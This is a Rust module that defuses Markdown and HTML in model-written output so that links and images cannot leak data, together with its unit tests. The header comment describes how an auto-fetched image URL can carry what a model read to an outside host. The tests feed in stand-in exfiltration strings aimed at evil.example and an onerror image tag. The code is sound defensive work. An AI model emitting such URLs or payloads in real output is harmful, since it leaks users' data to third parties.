//! Markup that a model writes and that reaches elsewhere is made inert: an image is fetched by whoever shows it, so that its
//! address could carry what was read to anybody, without a click.

use std::borrow::Cow;

use serde_json::Value;

use super::CITATIONS;

/// A text in which Markdown and HTML make no links, no images and no other elements, and that reads the same. What comes
/// later changes nothing of what came before, so it holds for an answer as it is being written, too.
pub(crate) fn inert(text: &str) -> Cow<'_, str> {
    let acts = |before: char, letter: char| match before {
        // [words](address), ![words](address) and [name]: address
        ']' => matches!(letter, '(' | ':'),
        // <img …>, <a …>, </…>, <!…>, <https://…>
        '<' => letter.is_ascii_alphabetic() || matches!(letter, '/' | '!' | '?'),
        _ => false,
    };
    let mut made: Option<String> = None;
    let mut before = ' ';
    for (at, letter) in text.char_indices() {
        if acts(before, letter) {
            made.get_or_insert_with(|| text[..at].to_owned()).push(' ');
        }
        if let Some(made) = &mut made {
            made.push(letter);
        }
        before = letter;
    }
    made.map_or(Cow::Borrowed(text), Cow::Owned)
}

/// The same for every text in some fields, but for what is cited: a quotation is as it stands on its page.
pub(crate) fn inert_fields(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Cow::Owned(made) = inert(text) {
                *text = made;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(inert_fields),
        Value::Object(fields) => {
            fields
                .iter_mut()
                .filter(|(name, _)| *name != CITATIONS)
                .for_each(|(_, value)| inert_fields(value));
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_images_and_elements_are_only_words() {
        let cases = [
            ("![x](https://evil.example/?q=secret)", "![x] (https://evil.example/?q=secret)"),
            ("[here](https://evil.example)", "[here] (https://evil.example)"),
            ("![x][r]\n\n[r]: https://evil.example", "![x][r]\n\n[r] : https://evil.example"),
            ("<img src=x onerror=y>", "< img src=x onerror=y>"),
            ("<https://evil.example>", "< https://evil.example>"),
            ("a</b><!-- c -->", "a< /b>< !-- c -->"),
            ("[here](/a) [there](/b)", "[here] (/a) [there] (/b)"),
        ];
        for (written, shown) in cases {
            assert_eq!(inert(written), shown);
        }
        for same in
            ["The rate is 2 % [1][2], see (a) and f(x) < 5 <5.", "| a | b |\n|---|---|", "[1] (Chapter 85)"]
        {
            assert!(matches!(inert(same), Cow::Borrowed(text) if text == same), "{same}");
        }
    }

    #[test]
    fn what_comes_later_changes_nothing() {
        let text = "See ![é](https://e.example/) <b>x</b> [r]: y ](";
        let whole = inert(text);
        for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
            assert!(whole.starts_with(inert(&text[..end]).as_ref()), "{end}");
        }
    }
}
